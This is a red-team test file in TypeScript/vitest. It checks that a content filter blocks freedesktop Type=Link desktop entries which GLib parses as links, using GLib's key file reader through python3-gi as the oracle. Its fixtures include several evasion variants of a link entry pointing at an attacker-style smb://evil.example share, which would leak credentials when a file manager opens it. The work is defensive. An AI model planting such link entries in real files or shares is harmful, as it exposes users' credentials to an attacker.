// A freedesktop `Type=Link` entry (red team round 7) against GLib's own key file reader: `gio launch` refuses a link
// entry, but file managers (Nautilus's, Nemo's, Caja's, Thunar's and KDE's desktop file handling) read it with a key
// file reader and open its `URL` (an `smb://` one hands over credentials). The oracle is GLib's `GKeyFile`, through
// Debian's python3-gi (installed on demand): an attack is live when GLib reads a `Desktop Entry` group whose `Type` is
// `Link` with a `URL`, and the shipped profile withholds it however it is sent; a control GLib reads with no link (or
// cannot read at all) stays allowed when not named a launcher. Under CI=true a missing python3-gi fails the suite.
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { realHostSuite } from '../../real-host/host-suite.ts';
import { judgeSendings, letThrough, refused, sendingsOf } from '../redteam/judge-variants.ts';
import { aptOracle, runOracle } from './apt-oracle.ts';

const suite = realHostSuite('GLib key file (python3-gi)', () =>
  aptOracle('python3-gi', '/usr/lib/python3/dist-packages/gi/__init__.py'),
);

// loads the file as GLib does and prints the link's url, `-` when it has none, `!` when GLib refuses the file
const readLink = `
import sys
from gi.repository import GLib
k = GLib.KeyFile()
try:
    k.load_from_file(sys.argv[1], GLib.KeyFileFlags.NONE)
except GLib.Error:
    print('!')
    sys.exit(0)
def value(key):
    try:
        return k.get_string('Desktop Entry', key)
    except GLib.Error:
        return ''
t, u = value('Type'), value('URL')
print(u if t == 'Link' and u else '-')
`;

async function glibLink(body: string): Promise<string> {
  const dir = await suite.scratch('linkgate-keyfile-');
  const file = path.join(dir, 'entry');
  await writeFile(file, body);
  const out = await runOracle('/usr/bin/python3', ['-c', readLink, file]);
  expect(out.code, out.out).toBe(0);
  return out.out.trim();
}

const url = 'smb://evil.example/share/';
const attacks: [string, string][] = [
  ['a link entry', `[Desktop Entry]\nType=Link\nName=Docs\nURL=${url}\n`],
  ['CRLF lines behind comments and blank lines', `# notes\r\n\r\n[Desktop Entry]\r\nType=Link\r\nURL=${url}\r\n`],
  ['indented keys spaced around =', `  [Desktop Entry]\n  URL = ${url}\n  Type = Link\n`],
  ['the url before the type, a localized name', `[Desktop Entry]\nURL=${url}\nName[de]=Dokumente\nType=Link\n`],
];

const controls: [string, string][] = [
  ['a directory entry', '[Desktop Entry]\nType=Directory\nName=Docs\nIcon=folder\n'],
  [
    'an application entry naming a url in its comment',
    '[Desktop Entry]\nType=Application\nName=Docs\nComment=see URL=x\n',
  ],
  [
    'a how-to showing a link entry in a fenced block',
    `# Links\n\nA link entry:\n\n\`\`\`ini\n[Desktop Entry]\nType=Link\nURL=${url}\n\`\`\`\n`,
  ],
];

const sendings = sendingsOf('guide://share/docs', ['.desktop', '.txt', '.md', ''], ['text/plain', undefined]);

describe('GLib reads each attack as a link entry, the shipped profile withholds it however it is sent', () => {
  test.for(attacks.map(([name, body]) => ({ name, body })))('$name', async ({ body }, ctx) => {
    suite.require(ctx);
    expect(await glibLink(body)).toBe(url);
    expect(letThrough(await judgeSendings({ text: body }, sendings))).toEqual([]);
  });
});

describe('GLib reads no link in each control, the shipped profile allows it when not named a launcher', () => {
  test.for(controls.map(([name, body]) => ({ name, body })))('$name', async ({ body }, ctx) => {
    suite.require(ctx);
    expect(['-', '!']).toContain(await glibLink(body));
    const asDocument = sendings.filter(([uri]) => !uri.endsWith('.desktop'));
    expect(refused(await judgeSendings({ text: body }, asDocument))).toEqual([]);
  });
});
